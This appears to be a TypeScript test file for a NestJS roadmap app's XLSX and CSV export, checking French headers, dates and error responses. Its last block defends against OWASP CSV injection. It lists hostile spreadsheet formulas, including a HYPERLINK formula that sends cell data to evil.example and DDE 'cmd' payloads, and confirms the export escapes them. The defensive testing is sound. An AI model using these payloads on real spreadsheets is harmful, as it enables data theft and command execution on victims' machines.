import type { NestExpressApplication } from '@nestjs/platform-express';
import type { ActionView, RoadmapSummaryView } from '@jalons/contract';
import ExcelJS from 'exceljs';
import type request from 'supertest';

import { createTestApp } from './app';
import { signIn } from './auth';
import type { TestAgent } from './auth';
import { createTestDatabase } from './database';
import type { TestDatabase } from './database';

const AT = '2026-11-28';

/** supertest: keep the body as bytes */
const binary = (res: NodeJS.ReadableStream, done: (e: Error | null, b: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};
const asParser = binary as unknown as Parameters<ReturnType<ReturnType<typeof request>['get']>['parse']>[0];

describe('exporting a roadmap', () => {
  let db: TestDatabase;
  let app: NestExpressApplication;
  let http: TestAgent;
  let roadmap: RoadmapSummaryView;
  let actions: ActionView[];

  beforeAll(async () => {
    db = await createTestDatabase();
    ({ app } = await createTestApp(db.url));
    http = await signIn(app, db, 'lead');
    [roadmap] = (await http.get('/api/roadmaps').expect(200)).body;
    actions = (await http.get(`/api/roadmaps/${roadmap.id}/actions?at=${AT}`).expect(200)).body;
  });
  afterAll(async () => {
    await app?.close();
    await db?.drop();
  });

  it('gives an XLSX workbook that reads back: summary, every action with real dates, every milestone', async () => {
    const res = await http.get(`/api/roadmaps/${roadmap.id}/export?format=xlsx&at=${AT}`).buffer(true).parse(asParser).expect(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="jalons-brest-2026-2032-${AT}.xlsx"`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as unknown as ArrayBuffer);
    expect(book.worksheets.map((w) => w.name)).toEqual(['Synthèse', 'Actions', 'Jalons']);
    const sheet = book.getWorksheet('Actions')!;
    expect(sheet.rowCount).toBe(actions.length + 1);
    expect(sheet.getRow(1).getCell(3).value).toBe('Action');
    expect([sheet.getRow(1).getCell(14).value, sheet.getRow(1).getCell(15).value]).toEqual(['id', 'version']);
    // one action, found by its title: dates are date cells of the right day, status and owner in French
    const late = actions.find((a) => a.overdue)!;
    let found = 0;
    sheet.eachRow((row, n) => {
      if (n === 1 || row.getCell(3).value !== late.title) return;
      found++;
      expect((row.getCell(5).value as Date).toISOString().slice(0, 10)).toBe(late.start);
      expect((row.getCell(6).value as Date).toISOString().slice(0, 10)).toBe(late.due);
      expect(row.getCell(8).value).toBe(late.progress);
      expect(row.getCell(11).value).toBe('oui');
      expect(row.getCell(12).value).toBe(late.owner?.name ?? '');
      expect(row.getCell(14).value).toBe(late.id);
      expect(row.getCell(15).value).toBe(late.version);
    });
    expect(found).toBe(1);
    const summary = book.getWorksheet('Synthèse')!;
    expect(summary.getRow(2).getCell(1).value).toBe('Feuille de route');
    expect(summary.rowCount).toBe(1 + 1 + 4 + 11);
    const detail = (await http.get(`/api/roadmaps/${roadmap.id}?at=${AT}`).expect(200)).body;
    expect(summary.getRow(2).getCell(7).value).toBe(detail.rollUp.progress);
    const jalons = book.getWorksheet('Jalons')!;
    const header = (jalons.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(-2)).toEqual(['id', 'version']);
    const milestones = (await http.get(`/api/roadmaps/${roadmap.id}/milestones`).expect(200)).body as { id: string; version: number }[];
    expect(jalons.getRow(2).getCell(header.length - 1).value).toBe(milestones[0].id);
    expect(jalons.getRow(2).getCell(header.length).value).toBe(milestones[0].version);
    expect(book.getWorksheet('Jalons')!.rowCount).toBe(
      1 + (await http.get(`/api/roadmaps/${roadmap.id}/milestones`).expect(200)).body.length,
    );
  });

  it('gives a CSV of the actions that a French spreadsheet opens: BOM, semicolons, one line per action', async () => {
    const res = await http.get(`/api/roadmaps/${roadmap.id}/export?format=csv&at=${AT}`).buffer(true).parse(asParser).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const text = (res.body as Buffer).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trimEnd().split('\r\n');
    expect(lines[0].split(';')).toEqual([
      'Fonction',
      'Phase',
      'Action',
      'Volet',
      'Début',
      'Échéance',
      'Statut',
      'Avancement %',
      'Attendu %',
      'Santé',
      'En retard',
      'Responsable',
      'Actions précédentes',
      'id',
      'version',
    ]);
    expect(lines).toHaveLength(actions.length + 1);
    const blocked = actions.find((a) => a.status === 'bloquee')!;
    const line = lines.find((l) => l.includes(blocked.title))!;
    expect(line).toContain(';Bloquée;');
    expect(line).toContain(`;${blocked.start};${blocked.due};`);
    // last, the id and version the import matches the line with
    expect(line.endsWith(`;${blocked.id};${blocked.version}`)).toBe(true);
  });

  it('refuses an unknown format and answers 404 for an unknown roadmap', async () => {
    const bad = await http.get(`/api/roadmaps/${roadmap.id}/export?format=pdf`).expect(400);
    expect(bad.body.errors[0]).toMatchObject({ field: 'format', message: 'format doit valoir xlsx ou csv.' });
    await http.get('/api/roadmaps/00000000-0000-4000-8000-000000000000/export?format=csv').expect(404);
  });

  // last: it adds actions to the roadmap the tests above count
  describe('titles a spreadsheet would run as formulas (OWASP CSV injection)', () => {
    const DANGEROUS = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];

    /** the titles as stored (the API trims a title: a leading tab or carriage return goes, the `=` after it stays) */
    const stored: string[] = [];

    beforeAll(async () => {
      const base = actions[0];
      for (const title of DANGEROUS) {
        const res = await http
          .post(`/api/roadmaps/${roadmap.id}/actions`)
          .send({ functionId: base.functionId, title: `${title} fin`, start: base.start, due: base.due })
          .expect(201);
        stored.push((res.body as ActionView).title);
      }
      expect(stored.every((t) => /^[=+\-@]/.test(t))).toBe(true);
    });

    it('writes them in the CSV as text: a leading apostrophe, the title otherwise whole', async () => {
      const res = await http.get(`/api/roadmaps/${roadmap.id}/export?format=csv&at=${AT}`).buffer(true).parse(asParser).expect(200);
      const text = (res.body as Buffer).toString('utf8');
      for (const title of stored) {
        const field = /[";\n\r\t]/.test(title) ? `"'${title.replace(/"/g, '""')}"` : `'${title}`;
        expect(text).toContain(`;${field};`);
      }
      // and no field of the file starts with a formula character any more
      const fields = text
        .slice(1)
        .split(/;|\r\n/)
        .map((f) => f.replace(/^"/, ''));
      expect(fields.filter((f) => /^[=+@]/.test(f))).toEqual([]);
    });

    it('keeps them plain text cells in the XLSX, as typed', async () => {
      const res = await http.get(`/api/roadmaps/${roadmap.id}/export?format=xlsx&at=${AT}`).buffer(true).parse(asParser).expect(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(res.body as unknown as ArrayBuffer);
      const cells = new Map<string, ExcelJS.Cell>();
      book.getWorksheet('Actions')!.eachRow((row) => cells.set(String(row.getCell(3).value), row.getCell(3)));
      for (const title of stored) {
        const cell = cells.get(title);
        expect(cell?.type).toBe(ExcelJS.ValueType.String);
        expect(cell?.formula).toBeUndefined();
      }
    });
  });
});
